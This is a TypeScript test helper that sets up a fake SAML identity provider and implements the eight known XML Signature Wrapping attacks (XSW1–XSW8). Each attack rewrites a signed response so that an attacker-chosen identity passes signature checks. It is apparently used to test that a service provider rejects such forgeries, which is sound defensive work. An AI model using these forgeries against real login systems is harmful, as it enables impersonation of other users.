import { DOMParser, type Element, XMLSerializer } from '@xmldom/xmldom';
import { providerKeys, type TestKeys } from './test-keys.ts';
import { samlify } from './test-samlify.ts';

/** A SAML identity provider: samlify signs what tests tell it to. */

samlify.setSchemaValidator({ validate: async () => 'the schema is not what is tested' });

/** Overrides for one response; the rest is what a provider would send now. */
export interface Said {
  readonly acsUrl: string;
  readonly audience: string;
  readonly nameId?: string;
  readonly nameIdFormat?: string;
  /** By attribute name. */
  readonly attributes?: Readonly<Record<string, string>>;
  readonly inResponseTo?: string;
  /** Values of the template's places: `ConditionsNotOnOrAfter`, `SubjectRecipient`, `StatusCode`... */
  readonly places?: Readonly<Record<string, string | null>>;
  readonly sign?: 'assertion' | 'response' | 'both';
  readonly encrypted?: boolean;
}

export interface TestSamlIdp {
  readonly entityId: string;
  /** The response as XML. */
  respond(said: Said): Promise<string>;
}

const formats = 'urn:oasis:names:tc:SAML:1.1:nameid-format:';

export function createSamlIdp(
  options: { readonly entityId?: string; readonly keys?: TestKeys; readonly algorithm?: string } = {},
): TestSamlIdp {
  const entityId = options.entityId ?? 'https://idp.example/metadata';
  const { privateKey, certificate } = options.keys ?? providerKeys;
  const post = 'urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST';
  return {
    entityId,
    async respond(said) {
      const sign = said.sign ?? 'assertion';
      const idp = samlify.IdentityProvider({
        entityID: entityId,
        privateKey,
        signingCert: certificate,
        isAssertionEncrypted: said.encrypted === true,
        requestSignatureAlgorithm: options.algorithm ?? 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
        singleSignOnService: [{ Binding: post, Location: 'https://idp.example/sso' }],
        singleLogoutService: [{ Binding: post, Location: 'https://idp.example/slo' }],
      });
      const sp = samlify.ServiceProvider({
        entityID: said.audience,
        wantAssertionsSigned: sign !== 'response',
        wantMessageSigned: sign !== 'assertion',
        encryptCert: certificate,
        assertionConsumerService: [{ Binding: post, Location: said.acsUrl }],
      });
      const now = Date.now();
      const at = (minutes: number) => new Date(now + minutes * 60_000).toISOString();
      const places: Record<string, string | null> = {
        ID: `_response-${crypto.randomUUID()}`,
        AssertionID: `_assertion-${crypto.randomUUID()}`,
        IssueInstant: at(0),
        Destination: said.acsUrl,
        Audience: said.audience,
        SubjectRecipient: said.acsUrl,
        Issuer: entityId,
        StatusCode: 'urn:oasis:names:tc:SAML:2.0:status:Success',
        ConditionsNotBefore: at(0),
        ConditionsNotOnOrAfter: at(5),
        SubjectConfirmationDataNotOnOrAfter: at(5),
        NameIDFormat: said.nameIdFormat ?? `${formats}persistent`,
        NameID: said.nameId ?? 'subject-1',
        InResponseTo: said.inResponseTo ?? null,
        ...said.places,
      };
      const replace = (template: string) => ({
        id: String(places.ID),
        context: samlify.SamlLib.replaceTagsByValue(template, places)
          .replace('{AuthnStatement}', `<saml:AuthnStatement AuthnInstant="${at(0)}" SessionIndex="1"/>`)
          .replace('{AttributeStatement}', statementOf(said.attributes ?? {})),
      });
      const { context } = await idp.createLoginResponse(
        sp,
        { extract: {} },
        'post',
        {},
        { customTagReplacement: replace },
      );
      return Buffer.from(context, 'base64').toString('utf8');
    },
  };
}

function statementOf(attributes: Readonly<Record<string, string>>): string {
  const each = Object.entries(attributes).map(
    ([name, value]) =>
      `<saml:Attribute Name="${name}"><saml:AttributeValue xsi:type="xs:string">${value}</saml:AttributeValue></saml:Attribute>`,
  );
  return each.length === 0 ? '' : `<saml:AttributeStatement>${each.join('')}</saml:AttributeStatement>`;
}

/** The response as the browser posts it. */
export const encoded = (xml: string): string => Buffer.from(xml, 'utf8').toString('base64');

/** Returns a response forged from a valid one, by an attacker who wants to be someone else. */
export interface Attack {
  readonly name: string;
  readonly forge: (xml: string, evil: string) => string;
}

const ds = 'http://www.w3.org/2000/09/xmldsig#';
const saml = 'urn:oasis:names:tc:SAML:2.0:assertion';
const samlp = 'urn:oasis:names:tc:SAML:2.0:protocol';

/** The parts of a response, in a document of their own that an attack may rebuild. */
function open(xml: string, evil: string) {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement!;
  const child = (parent: Element, namespace: string, name: string): Element | null => {
    for (let node = parent.firstChild; node !== null; node = node.nextSibling) {
      const element = node as Element;
      if (element.localName === name && element.namespaceURI === namespace) return element;
    }
    return null;
  };
  const make = (namespace: string, name: string) => document.createElementNS(namespace, name);
  const assertion = child(response, saml, 'Assertion')!;
  /** A copy that names the attacker's subject, without its signature. */
  const forged = (of: Element, id: string): Element => {
    const copy = of.cloneNode(true) as Element;
    const signature = child(copy, ds, 'Signature');
    if (signature !== null) copy.removeChild(signature);
    copy.setAttribute('ID', id);
    for (const name of ['NameID', 'AttributeValue']) {
      for (const element of copy.getElementsByTagNameNS(saml, name)) element.textContent = evil;
    }
    return copy;
  };
  const done = (root: Element = response): string => new XMLSerializer().serializeToString(root);
  return { document, response, assertion, child, make, forged, done };
}

/**
 * The eight known ways of wrapping a signed element so that the verifier finds one and the reader another (Somorovsky
 * et al., "On Breaking SAML: Be Whoever You Want to Be", 2012; numbered as in SAML Raider). 1 and 2 need a signed
 * response, the others a signed assertion.
 */
export const wrappings: readonly (Attack & { readonly sign: 'assertion' | 'response' })[] = [
  {
    name: 'XSW1: the signed response inside the signature of a forged one',
    sign: 'response',
    forge(xml, evil) {
      const { response, child, forged, done } = open(xml, evil);
      const signature = child(response, ds, 'Signature')!.cloneNode(true) as Element;
      const original = response.cloneNode(true) as Element;
      original.removeChild(child(original, ds, 'Signature')!);
      const evilResponse = forged(response, '_evil-response');
      signature.appendChild(original);
      evilResponse.insertBefore(signature, evilResponse.firstChild);
      return done(evilResponse);
    },
  },
  {
    name: 'XSW2: the signed response before the signature, both inside a forged one',
    sign: 'response',
    forge(xml, evil) {
      const { response, child, forged, done } = open(xml, evil);
      const signature = child(response, ds, 'Signature')!.cloneNode(true) as Element;
      const original = response.cloneNode(true) as Element;
      original.removeChild(child(original, ds, 'Signature')!);
      const evilResponse = forged(response, '_evil-response');
      evilResponse.insertBefore(signature, evilResponse.firstChild);
      evilResponse.insertBefore(original, signature);
      return done(evilResponse);
    },
  },
  {
    name: 'XSW3: a forged assertion before the signed one',
    sign: 'assertion',
    forge(xml, evil) {
      const { response, assertion, forged, done } = open(xml, evil);
      response.insertBefore(forged(assertion, '_evil'), assertion);
      return done();
    },
  },
  {
    name: 'XSW4: the signed assertion inside a forged one',
    sign: 'assertion',
    forge(xml, evil) {
      const { response, assertion, forged, done } = open(xml, evil);
      const copy = forged(assertion, '_evil');
      response.replaceChild(copy, assertion);
      copy.appendChild(assertion);
      return done();
    },
  },
  {
    name: 'XSW5: a forged assertion with the signature, the signed one at the end',
    sign: 'assertion',
    forge(xml, evil) {
      const { response, assertion, child, forged, done } = open(xml, evil);
      const copy = forged(assertion, '_evil');
      const signature = child(assertion, ds, 'Signature')!;
      assertion.removeChild(signature);
      copy.insertBefore(signature, copy.firstChild);
      response.replaceChild(copy, assertion);
      response.appendChild(assertion);
      return done();
    },
  },
  {
    name: 'XSW6: the signed assertion inside the signature of a forged one',
    sign: 'assertion',
    forge(xml, evil) {
      const { response, assertion, child, forged, done } = open(xml, evil);
      const copy = forged(assertion, '_evil');
      const signature = child(assertion, ds, 'Signature')!;
      assertion.removeChild(signature);
      response.replaceChild(copy, assertion);
      copy.insertBefore(signature, copy.firstChild);
      signature.appendChild(assertion);
      return done();
    },
  },
  {
    name: 'XSW7: a forged assertion of the same id inside Extensions',
    sign: 'assertion',
    forge(xml, evil) {
      const { response, assertion, make, forged, done } = open(xml, evil);
      const extensions = make(samlp, 'samlp:Extensions');
      extensions.appendChild(forged(assertion, assertion.getAttribute('ID')!));
      response.insertBefore(extensions, assertion);
      return done();
    },
  },
  {
    name: 'XSW8: the signed assertion inside an Object of the signature of a forged one',
    sign: 'assertion',
    forge(xml, evil) {
      const { response, assertion, child, make, forged, done } = open(xml, evil);
      const copy = forged(assertion, assertion.getAttribute('ID')!);
      const signature = child(assertion, ds, 'Signature')!;
      assertion.removeChild(signature);
      response.replaceChild(copy, assertion);
      const object = make(ds, 'ds:Object');
      object.appendChild(assertion);
      signature.appendChild(object);
      copy.insertBefore(signature, copy.firstChild);
      return done();
    },
  },
];
